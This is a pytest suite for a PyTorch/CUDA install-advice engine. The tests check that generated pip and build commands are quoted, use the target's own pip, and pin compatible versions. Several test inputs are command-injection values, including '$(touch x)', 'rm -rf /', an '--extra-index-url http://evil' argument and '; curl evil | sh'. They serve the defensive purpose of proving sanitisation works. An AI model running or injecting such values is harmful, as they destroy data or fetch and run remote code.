"""The advice engine's rules over a grid of machines: complete, quoted, possible commands."""

from __future__ import annotations

import itertools
import re
import shlex
from dataclasses import replace

import pytest
from wheel_envs import make_env

from mamba_doctor.advice import ACTIONS, advise
from mamba_doctor.advice import commands as cmd
from mamba_doctor.knowledge.cuda_tables import (
    cuda_targets,
    driver_runs,
    newest_cuda,
    torch_has_python,
)
from mamba_doctor.models import NvidiaInfo
from mamba_doctor.probe.interpreter import Target

HOSTILE = "/home/a b/env$(touch x)/bin/python"


def test_values_from_the_facts_are_quoted_and_cleaned() -> None:
    assert cmd.interpreter(HOSTILE) == shlex.quote(HOSTILE)
    assert cmd.interpreter("/env/bin/python\nrm -rf ~") == shlex.quote("/env/bin/pythonrm -rf ~")
    assert cmd.interpreter(None) == "python"
    with pytest.raises(cmd.Unsafe):
        cmd.version("2.4.1; rm -rf /")
    with pytest.raises(cmd.Unsafe):
        cmd.variant("cu124 --extra-index-url http://evil")
    with pytest.raises(cmd.Unsafe):
        cmd.arch_list([86, 9000])
    line = cmd.torch_install(HOSTILE, "2.10.*", "cu128")
    assert shlex.split(line)[:4] == [HOSTILE, "-m", "pip", "install"]
    assert shlex.split(line)[4:] == ["torch==2.10.*", "--index-url",
                                     "https://download.pytorch.org/whl/cu128"]


def test_an_unusable_fact_leaves_the_command_out_and_says_so() -> None:
    env = make_env(python="3.11", torch="2.5.1+cpu", cuda=None, gpus=["rtx4090"],
                   driver_cuda="12.8")
    bad = replace(env, torch=replace(env.torch, version="2.5.1+cpu\n; curl evil | sh"))
    advice = advise("torch", Target("/env/bin/python", env=bad))
    assert advice is not None
    assert all("curl" not in c for c in advice.commands)


GRID = list(itertools.product(
    ["3.8", "3.10", "3.12"],
    [("2.0.0+cu118", "11.8"), ("2.4.1+cu121", "12.1"), ("2.5.1+cpu", None),
     ("2.11.0+cu128", "12.8"), (None, None)],
    [(), ("rtx5090",), ("v100",), ("gtx1080",), ("h100", "a100")],
    [None, "11.4", "12.4", "12.8"]))
PYTHON = "/srv/my env/bin/python"


@pytest.mark.parametrize(("py", "torch", "gpus", "driver_cuda"), GRID)
def test_every_action_keeps_the_rules(py: str, torch: tuple, gpus: tuple,
                                      driver_cuda: str | None) -> None:
    env = make_env(python=py, torch=torch[0], cuda=torch[1], abi=False, gpus=list(gpus),
                   driver_cuda=driver_cuda, torch_installed=torch[0] is not None)
    env = replace(env, nvidia=replace(env.nvidia, driver_version=None))
    target = Target(PYTHON, env=env)
    sms = [g.sm for g in env.nvidia.gpus if g.sm]
    for action in ACTIONS:
        advice = advise(action, target)
        build_cuda = env.torch.cuda  # a build compiles against torch: the new one, if any
        for line in advice.commands if advice else ():
            assert not re.search(r"<[^<>\s]+>", line), (action, line)
            words = shlex.split(line)
            if "pip" in words:  # the target's (or a new venv's) own pip, never a bare one
                i = words.index("pip")
                assert (words[i - 1] == "-m" and words[i - 2] in (PYTHON,)) or \
                    words[i - 2].startswith("~/.venvs/"), (action, line)
            pin = re.search(r"torch==([\d.]+?)(\.\*)?'? --index-url \S+/(cu\d+)", line)
            if pin:
                _torch_is_possible(env, words[0], pin.group(1), pin.group(3), sms, line)
                build_cuda = f"{pin.group(3)[2:-1]}.{pin.group(3)[-1]}"
            if "--from-source" in words and "--arch" in words:
                assert build_cuda, (action, line)
                _build_is_possible(build_cuda, words[words.index("--arch") + 1], line)


def _torch_is_possible(env, python: str, version: str, variant: str, sms,  # type: ignore[no-untyped-def]
                       line: str) -> None:
    minor = ".".join(version.split(".")[:2])
    cuda = (int(variant[2:-1]), int(variant[-1]))
    if python == PYTHON:
        assert torch_has_python(minor, env.python.version) is not False, line
    if env.nvidia.cuda_driver_version:
        assert driver_runs(cuda, env.nvidia.cuda_driver_version, None), line
    for sm in sms:
        assert cuda_targets(cuda, sm), line


def _build_is_possible(torch_cuda: str, archs: str, line: str) -> None:
    major = int(torch_cuda.split(".")[0])
    top = newest_cuda(major)
    assert top is not None, line
    for part in archs.split(","):
        a, b = (int(p) for p in part.split("."))
        assert cuda_targets(top, a * 10 + b), line


def test_no_gpu_means_no_arch_is_invented() -> None:
    env = make_env(python="3.10", torch="2.4.1+cu121", cuda="12.1", gpus=[])
    advice = advise("source_build", Target(PYTHON, env=env))
    assert advice is not None and advice.commands == ()
    assert "--arch X.Y" in advice.summary


def test_no_driver_advice_only_when_no_driver_answered() -> None:
    env = make_env(python="3.10", torch="2.4.1+cu121", cuda="12.1", gpus=["h100"],
                   driver_cuda="12.4")
    assert advise("no_driver", Target(PYTHON, env=env)) is None
    bare = replace(env, nvidia=NvidiaInfo())
    inside = replace(bare, os=replace(bare.os, container="docker"))
    text = advise("no_driver", Target(PYTHON, env=inside))
    assert text is not None and "--gpus all" in text.summary
    assert "ubuntu-drivers" not in text.summary
